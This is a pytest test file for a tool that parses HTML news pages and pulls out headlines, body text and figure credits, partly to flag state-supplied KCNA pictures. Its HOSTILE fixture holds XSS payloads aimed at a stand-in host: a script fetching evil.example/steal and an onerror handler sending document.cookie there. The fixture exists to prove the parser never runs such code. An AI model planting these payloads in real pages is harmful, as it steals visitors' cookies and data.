"""HTML article pages: headline, language, body, figures with captions and credits, JSON-LD and
Open Graph, local pictures read, remote ones never fetched, scripts never run or copied."""

from __future__ import annotations

import json
import time
from pathlib import Path

import pytest

import imagefactory as make
from ingest_support import iptc_picture, network_attempts  # noqa: F401  (a fixture)
from support import categories, tree_digest

CAPTION = "Kim Jong Un besichtigt eine Fabrik in Pjöngjang."


def page(body: str, head: str = "", lang: str = "de") -> str:
    return (f'<!DOCTYPE html><html lang="{lang}"><head><meta charset="utf-8"><title>Seite - Titel</title>{head}'
            f"</head><body><nav><p>Startseite Politik KCNA Sport</p></nav>{body}"
            "<footer><p>Impressum</p></footer></body></html>")


def json_ld(document: object) -> str:
    return f'<script type="application/ld+json">{json.dumps(document)}</script>'


def only_article(cli, path: Path) -> dict:
    articles = cli.report(path)["articles"]
    assert len(articles) == 1, [a["path"] for a in articles]
    return articles[0]


def test_a_page_gives_language_headline_body_and_a_figure_with_its_picture(cli, tmp_path):
    make.write(tmp_path, "fabrik.jpg", iptc_picture(CAPTION, "KCNA"))
    html = page(f"""<article><h1>Kim besucht <em>Fabrik</em></h1>
        <p>Der Machthaber besuchte am Montag<br>eine Fabrik.</p><p>Details wurden nicht bekannt.</p>
        <figure><img src="fabrik.jpg" alt="Alternativtext">
        <figcaption>{CAPTION} <span class="credit">(KCNA via Reuters)</span></figcaption></figure></article>""")
    article = only_article(cli, make.write(tmp_path, "seite.html", html.encode()))
    assert (article["format"], article["language"], article["headline"]) == ("html", "de", "Kim besucht Fabrik")
    assert article["body"] == "Der Machthaber besuchte am Montag eine Fabrik.\n\nDetails wurden nicht bekannt."
    [figure] = article["figures"]
    assert (figure["caption"], figure["credit"], figure["image"]) == (CAPTION, "KCNA via Reuters", "fabrik.jpg")
    assert figure["metadata"]["fields"]["credit"][0] == {"value": "KCNA", "origin": "IPTC:2:110 Credit"}
    state = [f for f in article["findings"] if f["category"] == "state_supplied"]
    assert state and state[0]["figure"] == 0
    assert any(e["field"] == "credit" and "KCNA" in e["text"] for f in state for e in f["evidence"])


def test_a_small_credit_in_a_figcaption_is_the_credit_and_alt_text_is_only_a_fallback(cli, tmp_path):
    html = page("""<article><h1>Parade</h1><p>Soldaten marschierten.</p>
        <figure><img src="a.jpg" alt="Soldaten" title="Titel"><figcaption>Soldaten marschieren. <small>Foto: Handout</small></figcaption></figure>
        <figure><img src="b.jpg" alt="Panzer auf dem Platz"></figure>
        <figure><img src="c.jpg" alt="Panzer" title="Panzer rollen über den Platz"><figcaption>Panzer rollen. <small>dpa</small> am Montag.</figcaption></figure>
        </article>""")
    figures = only_article(cli, make.write(tmp_path, "parade.html", html.encode()))["figures"]
    assert [(f["caption"], f["credit"]) for f in figures] == [
        ("Soldaten marschieren.", "Foto: Handout"),
        ("Panzer auf dem Platz", ""),
        ("Panzer rollen. dpa am Montag.", ""),  # not trailing: the <small> stays part of the caption
    ]
    assert figures[1]["origins"]["caption"] == "HTML img alt"
    assert "caption" not in figures[0]["origins"]


def test_json_ld_graph_and_image_arrays_fill_what_the_page_leaves_out(cli, tmp_path, network_attempts):
    make.write(tmp_path, "kim.jpg", make.jpeg())
    graph = {"@context": "https://schema.org", "@graph": [
        {"@type": "NewsArticle", "headline": "Kim in der Fabrik", "inLanguage": "de-DE",
         "image": [{"@id": "#foto"}, "https://cdn.example.org/zweites.jpg"]},
        {"@type": "ImageObject", "@id": "#foto", "contentUrl": "https://cdn.example.org/bilder/kim.jpg?w=1200",
         "caption": CAPTION, "creditText": "KCNA via Reuters", "copyrightNotice": "© KCNA",
         "creator": [{"@type": "Organization", "name": "KCNA"}], "inLanguage": "de"},
        {"@type": "Organization", "name": "Zeitung", "logo": {"@type": "ImageObject", "@id": "#logo", "url": "logo.png"}},
    ]}
    html = page('<article><p>Text.</p><figure><img src="kim.jpg"></figure></article>', head=json_ld(graph), lang="")
    article = only_article(cli, make.write(tmp_path, "ld.html", html.encode()))
    assert article["language"] == "de" and article["headline"] == "Kim in der Fabrik"
    shown, second = article["figures"]
    assert (shown["caption"], shown["credit"], shown["byline"]) == (CAPTION, "KCNA via Reuters", "KCNA")
    assert shown["origins"] == {"caption": "JSON-LD ImageObject caption", "credit": "JSON-LD ImageObject creditText"}
    assert shown["metadata"] is not None and "figure 1: copyright notice: © KCNA" in article["notes"]
    assert second["image"] == "https://cdn.example.org/zweites.jpg" and "not fetched" in second["image_note"]
    assert "state_supplied" in categories(article)
    assert network_attempts == []


def test_a_json_ld_picture_array_alone_makes_figures(cli, tmp_path):
    article_ld = {"@type": ["NewsArticle"], "headline": "Flut", "image": [
        {"@type": "ImageObject", "url": ["eins.jpg"], "caption": "Eine überflutete Straße.", "creditText": "Handout"},
        {"@type": "ImageObject", "contentUrl": "zwei.jpg", "description": "Helfer im Einsatz."}]}
    html = page("<article><h1>Flut</h1><p>Wasser stieg.</p></article>", head=json_ld(article_ld))
    figures = only_article(cli, make.write(tmp_path, "flut.html", html.encode()))["figures"]
    assert [(f["image"], f["caption"], f["credit"]) for f in figures] == [
        ("eins.jpg", "Eine überflutete Straße.", "Handout"), ("zwei.jpg", "Helfer im Einsatz.", "")]
    assert figures[1]["origins"]["caption"] == "JSON-LD ImageObject description"


def test_a_standalone_image_object_is_a_figure_but_a_logo_or_an_author_photo_is_not(cli, tmp_path):
    picture = {"@context": "https://schema.org", "@type": "ImageObject", "contentUrl": "allein.jpg",
               "caption": "Ein Bild.", "creditText": "Polizei", "copyrightHolder": {"name": "Landespolizei"}}
    org = {"@type": "NewsMediaOrganization", "logo": {"@type": "ImageObject", "url": "logo.png", "caption": "Logo"},
           "founder": {"@type": "Person", "image": {"@type": "ImageObject", "url": "gruender.jpg"}}}
    html = page("<main><p>Text.</p></main>", head=json_ld(picture) + json_ld(org))
    [figure] = only_article(cli, make.write(tmp_path, "allein.html", html.encode()))["figures"]
    assert (figure["image"], figure["caption"], figure["credit"]) == ("allein.jpg", "Ein Bild.", "Polizei / Landespolizei")


@pytest.mark.parametrize("block, note", [
    ("{not json", "is not valid JSON"),
    ("[" * 50_000 + "]" * 50_000, "nested too deeply"),
    ('{"a": "' + "x" * 600_000 + '"}', "over the"),
])
def test_bad_json_ld_is_a_note_and_the_page_is_still_checked(cli, tmp_path, block, note):
    html = page(f'<article><p>Text.</p><figure><img src="k.jpg"><figcaption>{CAPTION} (KCNA via AP)'
                f'</figcaption></figure></article>', head=f'<script type="application/ld+json">{block}</script>')
    article = only_article(cli, make.write(tmp_path, "kaputt.html", html.encode()))
    assert any(n.startswith("JSON-LD block 1 ") and note in n for n in article["notes"])
    assert "state_supplied" in categories(article)


def test_deep_json_ld_within_json_limits_is_cut_not_crashed(cli, tmp_path):
    deep: dict = {"@type": "ImageObject", "caption": "zu tief", "contentUrl": "tief.jpg"}
    for _ in range(200):
        deep = {"@type": "Thing", "about": deep}
    html = page("<article><h1>Tief</h1><p>Text.</p></article>", head=json_ld({"@graph": [deep]}))
    article = only_article(cli, make.write(tmp_path, "tief.html", html.encode()))
    assert article["figures"] == [] and article["headline"] == "Tief"


def test_open_graph_image_is_a_figure_only_when_the_page_does_not_show_it(cli, tmp_path, network_attempts):
    head = ('<meta property="og:image" content="https://cdn.example.org/x/kim.jpg">'
            '<meta property="og:image:alt" content="Kim in der Fabrik">')
    shown = page('<article><p>Text.</p><figure><img src="kim.jpg"><figcaption>Bild</figcaption></figure></article>', head)
    unshown = page("<article><p>Text.</p></article>", head)
    assert len(only_article(cli, make.write(tmp_path, "gezeigt.html", shown.encode()))["figures"]) == 1
    [figure] = only_article(cli, make.write(tmp_path, "og.html", unshown.encode()))["figures"]
    assert (figure["image"], figure["caption"]) == ("https://cdn.example.org/x/kim.jpg", "Kim in der Fabrik")
    assert figure["origins"]["caption"] == "Open Graph og:image:alt" and "not fetched" in figure["image_note"]
    assert network_attempts == []


HOSTILE = page("""<article><h1>Harmlos</h1>
    <script>document.title = "KCNA Handout"; fetch("https://evil.example/steal");</script>
    <style>p::after { content: "KCNA" }</style>
    <p onmouseover="alert('KCNA')">Ein <a href="javascript:alert('KCNA')">Link</a> im Text.</p>
    <figure><img src="missing.jpg" onerror="this.src='https://evil.example/x?'+document.cookie" onload="alert(1)">
    <figcaption onclick="alert(2)">Eine Straße am Morgen.<script>alert('KCNA via AP')</script></figcaption></figure>
    <img src="javascript:alert('x')" alt="Schaltfläche">
    <iframe src="https://evil.example/frame"></iframe>
    <template><p>KCNA via AP</p></template><noscript><p>KCNA via AP</p></noscript>
    </article>""")


def test_scripts_and_handlers_never_run_or_reach_the_model(cli, tmp_path, network_attempts):
    source = make.write(tmp_path, "boese.html", HOSTILE.encode())
    out = tmp_path / "out"
    before = tree_digest(tmp_path)
    result = cli.run("check", source, "--out", out, "--format", "html", "--format", "json", "--fail-on", "never")
    assert result.exit_code == 0, result.stderr
    assert {p for p in tree_digest(tmp_path) if not p.startswith("out")} == set(before)
    article = json.loads((out / "report.json").read_text(encoding="utf-8"))["articles"][0]
    assert article["body"] == "Ein Link im Text." and article["headline"] == "Harmlos"
    assert [f["caption"] for f in article["figures"]] == ["Eine Straße am Morgen.", "Schaltfläche"]
    dumped = json.dumps(article)
    for fragment in ("onerror", "onload", "onclick", "document.cookie", "evil.example", "KCNA", "alert(2)"):
        assert fragment not in dumped
    javascript = article["figures"][1]
    assert "not a picture address (javascript:)" in javascript["image_note"] and javascript["metadata"] is None
    assert article["findings"] == [] and network_attempts == []


def test_a_remote_picture_is_never_fetched_and_the_figure_says_so(cli, tmp_path, network_attempts):
    html = page('<article><p>Text.</p><figure><img src="https://fotos.example.org/kim.jpg">'
                f'<figcaption>{CAPTION}</figcaption></figure><img src="//cdn.example.org/b.jpg" alt="Bild"></article>')
    article = only_article(cli, make.write(tmp_path, "fern.html", html.encode()))
    notes = [f["image_note"] for f in article["figures"]]
    assert notes == ["remote picture (https:) not fetched: its metadata was not checked",
                     "remote picture (//cdn.example.org) not fetched: its metadata was not checked"]
    assert all(f["metadata"] is None for f in article["figures"]) and network_attempts == []


def test_a_lazy_loaded_picture_is_read_from_its_data_src(cli, tmp_path):
    make.write(tmp_path, "echt.jpg", iptc_picture(CAPTION, "KCNA"))
    html = page('<article><p>Text.</p><figure><img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" '
                'data-src="echt.jpg"><figcaption>Bild</figcaption></figure></article>')
    [figure] = only_article(cli, make.write(tmp_path, "lazy.html", html.encode()))["figures"]
    assert figure["image"] == "echt.jpg" and figure["metadata"]["fields"]["credit"][0]["value"] == "KCNA"


def test_a_page_without_text_is_an_unreadable_input(cli, tmp_path):
    article = only_article(cli, make.write(tmp_path, "leer.html", b"<html><body><script>x()</script></body></html>"))
    assert article["format"] == "unreadable" and "leer.html" in article["findings"][0]["message"]


def test_nested_figures_are_one_figure_and_teaser_articles_are_not_the_story(cli, tmp_path):
    html = page('<article><p>Teaser.</p><figure><img src="t.jpg"><figcaption>Teaser</figcaption></figure></article>'
                '<article><h1>Die Geschichte</h1><p>Ein langer Absatz mit dem eigentlichen Text der Geschichte.</p>'
                '<figure><img src="a.jpg"><figure><img src="b.jpg"></figure><figcaption>Außen</figcaption></figure>'
                '<figure><img src="c.jpg"><figcaption>Zweite</figcaption></figure></article>')
    article = only_article(cli, make.write(tmp_path, "verschachtelt.html", html.encode()))
    assert article["headline"] == "Die Geschichte"
    assert [(f["image"], f["caption"]) for f in article["figures"]] == [("a.jpg", "Außen"), ("c.jpg", "Zweite")]


def test_a_huge_hostile_page_is_read_quickly_and_its_pictures_are_capped(tmp_path):
    from provenance.ingest.html import parse

    markup = page("<article>" + "<div><p>x</p>" * 20_000 + "<article>y " * 5_000 + "<img src=a.jpg>" * 20_000
                  + "<figure><img src=b.jpg>" * 5_000 + "</article>")
    started = time.monotonic()
    article = parse(markup, "gross.html")
    assert time.monotonic() - started < 20
    assert len(article.figures) == 500 and "more than 500 pictures: only the first 500 were read" in article.notes


def test_a_page_in_a_declared_legacy_charset_is_read_in_it_with_a_note(cli, tmp_path):
    html = ('<html lang="ru"><head><meta charset="windows-1251"><title>Парад</title></head><body><article>'
            '<p>Войска прошли по площади.</p><figure><img src="p.jpg"><figcaption>Парад в Пхеньяне. '
            '<span class="credit">ЦТАК</span></figcaption></figure></article></body></html>')
    article = only_article(cli, make.write(tmp_path, "parad.html", html.encode("cp1251")))
    assert (article["language"], article["body"]) == ("ru", "Войска прошли по площади.")
    assert (article["figures"][0]["caption"], article["figures"][0]["credit"]) == ("Парад в Пхеньяне.", "ЦТАК")
    assert "not UTF-8: read as cp1251, as the file declares" in article["notes"]


@pytest.mark.parametrize("charset", ["utf-16", "utf-7", "base64", "no-such-charset"])
def test_a_declared_charset_that_cannot_be_right_is_not_believed(cli, tmp_path, charset):
    html = f'<html><head><meta charset="{charset}"></head><body><p>Caf\xe9 am Markt.</p></body></html>'
    article = only_article(cli, make.write(tmp_path, "falsch.html", html.encode("cp1252")))
    assert article["body"] == "Café am Markt." and "not UTF-8: read as Windows-1252 (Latin-1)" in article["notes"]


def test_a_site_logo_h1_outside_the_story_does_not_beat_the_declared_headline(cli, tmp_path):
    head = json_ld({"@type": "NewsArticle", "headline": "Kim besucht Fabrik"})
    html = page("<header><h1>Die Zeitung</h1></header><main><p>Text.</p></main>", head=head)
    assert only_article(cli, make.write(tmp_path, "logo.html", html.encode()))["headline"] == "Kim besucht Fabrik"
